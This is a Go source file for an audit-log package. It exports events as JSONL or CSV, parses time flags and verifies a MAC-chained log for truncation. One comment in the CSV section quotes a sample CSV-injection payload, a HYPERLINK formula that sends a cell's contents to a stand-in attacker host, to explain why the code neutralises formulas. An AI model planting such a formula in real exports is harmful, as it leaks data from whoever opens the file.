package audit

import (
	"fmt"
	"io"
	"math"
	"strconv"
	"strings"
	"time"
	"unicode"
	"unicode/utf8"
)

// Export formats.
const (
	FormatJSONL = "jsonl"
	FormatCSV   = "csv"
)

// ExportFields are the fields of an exported event, in order: the JSONL
// keys and the CSV header. They are a stable interface (docs/audit.md):
// fields may be added at the end, never renamed or removed.
var ExportFields = []string{"seq", "at", "actor", "db_role", "action", "project", "subject", "details", "mac_kid", "prev_mac", "mac"}

// ExportTimeLayout is how "at" is written: RFC 3339 in UTC with
// microseconds, PostgreSQL's precision, so every line has the same width
// and sorts as text.
const ExportTimeLayout = "2006-01-02T15:04:05.000000Z07:00"

// CSVFormulas says what a CSV export does with a cell that a spreadsheet
// would take for a formula: one starting with =, +, -, @, a tab or a
// carriage return. Any text may reach a cell (an actor is whatever the
// user configured), so =HYPERLINK("http://evil.example/?x="&A1,"x") would
// run in whoever opens the file.
type CSVFormulas int

const (
	// KeepFormulas writes every cell as stored, byte for byte: what the
	// chain MAC covers and what tools compare.
	KeepFormulas CSVFormulas = iota
	// NeutraliseFormulas prefixes such a cell with a single quote, as
	// OWASP advises against CSV injection, so a spreadsheet shows it as
	// text; the quoting stays RFC 4180.
	NeutraliseFormulas
)

// ExportWriter writes events one at a time in an export format, in
// constant memory. Close flushes; it does not close the underlying writer.
type ExportWriter interface {
	Write(e *Event) error
	Close() error
}

// NewExportWriter returns a writer for format (FormatJSONL or FormatCSV).
// A CSV export starts with its header row, and treats formulas as
// formulas says; JSON lines always hold the exact text.
func NewExportWriter(w io.Writer, format string, formulas CSVFormulas) (ExportWriter, error) {
	switch format {
	case FormatJSONL:
		return &jsonlWriter{lines: newLines(w)}, nil
	case FormatCSV:
		c := &csvWriter{lines: newLines(w), neutralise: formulas == NeutraliseFormulas}
		b := c.buf
		for i, f := range ExportFields {
			if i > 0 {
				b = append(b, ',')
			}
			b = appendCSVField(b, f)
		}
		c.buf = append(b, '\n')
		return c, nil
	}
	return nil, fmt.Errorf("export format %q is not supported: use %s or %s", format, FormatJSONL, FormatCSV)
}

// jsonlWriter writes one JSON object per line. It appends by hand into one
// reused buffer: encoding/json would allocate for every event, and export
// speed is a product requirement. details stays a string holding the
// stored JSON text, byte for byte, since the chain MAC covers those exact
// bytes.
type jsonlWriter struct {
	lines
}

func (j *jsonlWriter) Write(e *Event) error {
	b := append(j.buf, `{"seq":`...)
	b = strconv.AppendInt(b, e.Seq, 10)
	b = append(b, `,"at":"`...)
	b = appendExportTime(b, e.At)
	b = append(b, '"')
	for _, f := range [...]struct {
		key   string
		value string
	}{
		{`,"actor":`, e.Actor},
		{`,"db_role":`, e.DBRole},
		{`,"action":`, e.Action},
		{`,"project":`, e.Project},
		{`,"subject":`, e.Subject},
		{`,"details":`, e.Details},
		{`,"mac_kid":`, e.MACKID},
		{`,"prev_mac":`, e.PrevMAC},
		{`,"mac":`, e.MAC},
	} {
		b = append(b, f.key...)
		b = appendJSONString(b, f.value)
	}
	j.buf = append(b, "}\n"...)
	return j.wrote()
}

// lines gathers an export's lines and writes them 64 KiB at a time. Each
// line is appended straight to it: a bufio.Writer would copy every line
// once more.
type lines struct {
	w   io.Writer
	buf []byte
}

const linesSize = 64 << 10

func newLines(w io.Writer) lines {
	return lines{w: w, buf: make([]byte, 0, linesSize+4<<10)}
}

// wrote writes the lines gathered once they fill the buffer.
func (l *lines) wrote() error {
	if len(l.buf) < linesSize {
		return nil
	}
	return l.Close()
}

// Close writes the lines gathered.
func (l *lines) Close() error {
	if len(l.buf) == 0 {
		return nil
	}
	_, err := l.w.Write(l.buf)
	l.buf = l.buf[:0]
	if err != nil {
		return fmt.Errorf("write audit export: %w", err)
	}
	return nil
}

// appendExportTime appends t in UTC as ExportTimeLayout writes it, digit
// by digit for the years 0 to 9999: AppendFormat reads its layout on
// every call, which was a tenth of an export's time.
func appendExportTime(b []byte, t time.Time) []byte {
	t = t.UTC()
	year, month, day := t.Date()
	if year < 0 || year > 9999 {
		return t.AppendFormat(b, ExportTimeLayout)
	}
	hour, minute, second := t.Clock()
	b = appendDigits(b, year, 4)
	b = append(b, '-')
	b = appendDigits(b, int(month), 2)
	b = append(b, '-')
	b = appendDigits(b, day, 2)
	b = append(b, 'T')
	b = appendDigits(b, hour, 2)
	b = append(b, ':')
	b = appendDigits(b, minute, 2)
	b = append(b, ':')
	b = appendDigits(b, second, 2)
	b = append(b, '.')
	b = appendDigits(b, t.Nanosecond()/1000, 6) // truncated, as the layout does
	return append(b, 'Z')
}

// appendDigits appends n, which is not negative, in width digits.
func appendDigits(b []byte, n, width int) []byte {
	for i := width - 1; i >= 0; i-- {
		b = append(b, 0)
	}
	for i := len(b) - 1; i >= len(b)-width; i-- {
		b[i] = byte('0' + n%10)
		n /= 10
	}
	return b
}

const hexDigits = "0123456789abcdef"

// jsonPlain marks the bytes encoding/json writes in a string as they are:
// printable ASCII but for the quote, the backslash and the HTML-sensitive
// <, > and &.
var jsonPlain = func() (t [256]bool) {
	for c := 0x20; c < utf8.RuneSelf; c++ {
		t[c] = c != '"' && c != '\\' && c != '<' && c != '>' && c != '&'
	}
	return t
}()

// appendJSONString appends s as a JSON string, byte for byte as
// encoding/json's Marshal writes it. Like encoding/json it
// escapes <, > and & (the output may be pasted into HTML) and U+2028/9,
// and replaces invalid UTF-8 with U+FFFD.
func appendJSONString(b []byte, s string) []byte {
	b = append(b, '"')
	start := 0
	for i := 0; i < len(s); {
		// Runs of bytes written as they are, a table lookup each: most of
		// an export's text (MACs, names, the details' JSON) is such a run.
		for i < len(s) && jsonPlain[s[i]] {
			i++
		}
		if i == len(s) {
			break
		}
		c := s[i]
		if c < utf8.RuneSelf {
			b = append(b, s[start:i]...)
			switch c {
			case '"', '\\':
				b = append(b, '\\', c)
			case '\n':
				b = append(b, '\\', 'n')
			case '\r':
				b = append(b, '\\', 'r')
			case '\t':
				b = append(b, '\\', 't')
			case '\b':
				b = append(b, '\\', 'b')
			case '\f':
				b = append(b, '\\', 'f')
			default:
				b = append(b, '\\', 'u', '0', '0', hexDigits[c>>4], hexDigits[c&0xf])
			}
			i++
			start = i
			continue
		}
		r, size := utf8.DecodeRuneInString(s[i:])
		if r == utf8.RuneError && size == 1 {
			b = append(b, s[start:i]...)
			b = append(b, `\ufffd`...)
			i += size
			start = i
			continue
		}
		if r == '\u2028' || r == '\u2029' {
			b = append(b, s[start:i]...)
			b = append(b, '\\', 'u', '2', '0', '2', hexDigits[r&0xf])
			i += size
			start = i
			continue
		}
		i += size
	}
	b = append(b, s[start:]...)
	return append(b, '"')
}

// csvWriter writes RFC 4180 CSV under the ExportFields header, exactly as
// encoding/csv writes it (LF line ends), appending by hand into one reused
// buffer like jsonlWriter: encoding/csv allocates a record and its fields
// for every event, which made CSV exports markedly slower than JSON lines.
type csvWriter struct {
	lines
	neutralise bool
}

func (c *csvWriter) Write(e *Event) error {
	b := strconv.AppendInt(c.buf, e.Seq, 10)
	b = append(b, ',')
	b = appendExportTime(b, e.At)
	for _, f := range [...]string{e.Actor, e.DBRole, e.Action, e.Project, e.Subject, e.Details, e.MACKID, e.PrevMAC, e.MAC} {
		b = append(b, ',')
		if c.neutralise && startsFormula(f) {
			// The copy is rare: stored text seldom starts so.
			f = "'" + f
		}
		b = appendCSVField(b, f)
	}
	c.buf = append(b, '\n')
	return c.wrote()
}

// startsFormula reports whether a spreadsheet would read the cell s as a
// formula (OWASP's list).
func startsFormula(s string) bool {
	return s != "" && strings.IndexByte("=+-@\t\r", s[0]) >= 0
}

// appendCSVField appends s as encoding/csv writes a field: quoted, with
// quotes doubled, when it holds a comma, a quote, CR or LF, starts with a
// space, or is \. (which some readers take for end of data); else as is.
func appendCSVField(b []byte, s string) []byte {
	if !csvNeedsQuotes(s) {
		return append(b, s...)
	}
	b = append(b, '"')
	for {
		i := strings.IndexByte(s, '"')
		if i < 0 {
			break
		}
		b = append(b, s[:i+1]...)
		b = append(b, '"')
		s = s[i+1:]
	}
	b = append(b, s...)
	return append(b, '"')
}

// csvQuoted marks the bytes that make a field quoted wherever they are.
var csvQuoted = [256]bool{',': true, '"': true, '\r': true, '\n': true}

func csvNeedsQuotes(s string) bool {
	if s == "" {
		return false
	}
	if s == `\.` {
		return true
	}
	// A table lookup a byte: strings.ContainsAny builds its set of bytes
	// on every call, for every field of every event.
	for i := 0; i < len(s); i++ {
		if csvQuoted[s[i]] {
			return true
		}
	}
	r, _ := utf8.DecodeRuneInString(s)
	return unicode.IsSpace(r)
}

// ParseExportTime reads a time flag (audit export's --since and --until,
// status' --since), the same way for every command: RFC 3339, a date
// (midnight UTC), or a duration before now, in Go's units (90m, 24h) or
// whole days (7d).
func ParseExportTime(flag, value string, now time.Time) (time.Time, error) {
	if t, err := time.Parse(time.RFC3339Nano, value); err == nil {
		return t, nil
	}
	if t, err := time.Parse("2006-01-02", value); err == nil {
		return t, nil
	}
	if d, ok := ParseDuration(value); ok {
		if d < 0 {
			return time.Time{}, fmt.Errorf("--%s %s is negative: give how long ago, e.g. 24h or 7d", flag, value)
		}
		return now.Add(-d), nil
	}
	return time.Time{}, fmt.Errorf("--%s %q is not a time: use RFC 3339, e.g. 2025-01-31T08:00:00Z, a date, e.g. 2025-01-31, or a duration ago, e.g. 24h or 7d", flag, value)
}

// ParseDuration reads a duration in Go's syntax (90m, 36h), with whole
// days in front as well (7d, 1d12h), which Go's syntax lacks. Every
// duration flag of the CLI reads through it; each says what range it takes.
func ParseDuration(value string) (time.Duration, bool) {
	if rest, negative := strings.CutPrefix(value, "-"); negative {
		if strings.HasPrefix(rest, "-") || strings.HasPrefix(rest, "+") {
			return 0, false
		}
		d, ok := ParseDuration(rest)
		return -d, ok
	}
	days, rest, hasDays := strings.Cut(value, "d")
	if !hasDays {
		d, err := time.ParseDuration(value)
		return d, err == nil
	}
	const day = 24 * time.Hour
	n, err := strconv.ParseInt(days, 10, 64)
	if err != nil || days[0] == '+' || n < 0 || n > math.MaxInt64/int64(day) {
		return 0, false
	}
	d := time.Duration(n) * day
	if rest == "" {
		return d, true
	}
	r, err := time.ParseDuration(rest)
	if err != nil || r < 0 || r > math.MaxInt64-d {
		return 0, false
	}
	return d + r, true
}

// ChainReport is the outcome of walking the whole chain.
type ChainReport struct {
	Count   int64  `json:"count"`
	HeadSeq int64  `json:"head_seq"`
	HeadMAC string `json:"head_mac"`
	// ExpectedHeadSeq is where the --expect-head MAC was found, 0 when none
	// was asked for.
	ExpectedHeadSeq int64 `json:"expected_head_seq,omitempty"`
}

// ChainWalk verifies a whole chain, event by event in seq order, and at the
// end checks it against the head the database records and, optionally, a
// head recorded elsewhere earlier.
type ChainWalk struct {
	v          *Verifier
	expectHead string
	expectSeq  int64
}

// NewChainWalk starts a walk; expectHead, when not empty, is a MAC a
// previous verify printed, which must still be in the chain.
func NewChainWalk(c Chain, keys KeyFunc, expectHead string) *ChainWalk {
	return &ChainWalk{v: NewVerifier(c, keys), expectHead: expectHead}
}

// Next checks the next event.
func (w *ChainWalk) Next(e *Event) error {
	if err := w.v.Next(e); err != nil {
		return err
	}
	if w.expectHead != "" && w.expectSeq == 0 && e.MAC == w.expectHead {
		w.expectSeq = e.Seq
	}
	return nil
}

// TruncatedError reports events missing from the end of the chain: the
// chain is consistent, but shorter than a head recorded before.
type TruncatedError struct {
	Reason string
}

func (e *TruncatedError) Error() string {
	return "audit chain truncated: " + e.Reason
}

// Finish ends the walk. recordedSeq and recordedMAC are the database's
// chain head (audit_head), which every append moves in the same
// transaction: a last event older than it means the newest events were
// deleted.
func (w *ChainWalk) Finish(recordedSeq int64, recordedMAC string) (ChainReport, error) {
	seq, mac, count := w.v.Head()
	rep := ChainReport{Count: count, HeadSeq: seq, HeadMAC: mac, ExpectedHeadSeq: w.expectSeq}
	if seq != recordedSeq || mac != recordedMAC {
		return rep, &TruncatedError{
			Reason: fmt.Sprintf("the chain head records event %d, but the newest event that verifies is %d", recordedSeq, seq),
		}
	}
	if w.expectHead != "" && w.expectSeq == 0 {
		return rep, &TruncatedError{
			Reason: fmt.Sprintf("the expected head is no longer in the chain (newest event %d): events were deleted from its end, or the head comes from another deployment", seq),
		}
	}
	return rep, nil
}
